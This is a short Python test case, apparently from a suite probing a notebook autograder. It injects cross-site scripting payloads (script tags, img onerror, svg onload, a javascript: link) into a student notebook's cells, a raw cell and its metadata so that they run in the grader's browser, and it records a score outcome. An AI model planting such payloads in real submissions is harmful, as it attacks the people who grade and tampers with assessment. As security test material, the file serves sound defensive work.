"""Scripts in a written answer, in raw cells and in attachments.

class: notebook, script in markdown
tries: runs in the browser of whoever grades the answer
outcome: total 4, scaled 6
says: -
"""

from pathlib import Path

import nbformat
from nbformat import NotebookNode

SCRIPT = "<script>parent.document.title = 'taken'</script><img src=x onerror=alert(1)>"


def hand_in(folder: Path, notebook: NotebookNode) -> None:
    """Write the script wherever text is rendered."""
    notebook.cells[-1].source = f"{SCRIPT}\n\n[link](javascript:alert(1))\n\n<svg onload=alert(1)>"
    notebook.cells[0].source += SCRIPT
    notebook.cells.append(nbformat.v4.new_raw_cell(SCRIPT))
    notebook.metadata["title"] = SCRIPT
    nbformat.write(notebook, folder / "1_sums.ipynb")
